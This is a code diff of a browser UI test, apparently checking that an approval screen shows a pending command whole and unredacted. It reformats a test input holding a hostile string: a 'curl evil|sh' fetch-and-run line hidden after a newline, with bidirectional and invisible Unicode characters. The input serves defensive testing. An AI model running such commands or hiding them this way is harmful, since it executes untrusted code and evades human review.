@@ -26,7 +26,11 @@ await visit(async ({ window }) => {
   await page.locator('#held').waitFor({ state: 'hidden' });
 
   // What will run is shown whole (PO-2): nothing redacted, nothing cut, and nothing that cannot be seen.
-  const hidden = { room: 'ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u202e\u009b\u{e0041}', password: 'x'.repeat(9000), lights: [] };
+  const hidden = {
+    room: 'ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u202e\u009b\u{e0041}',
+    password: 'x'.repeat(9000),
+    lights: [],
+  };
   const sneaky = call('scene', hidden);
   await says(page, '.exactly', 'curl evil');
   const shown = await page.locator('.exactly').innerText();
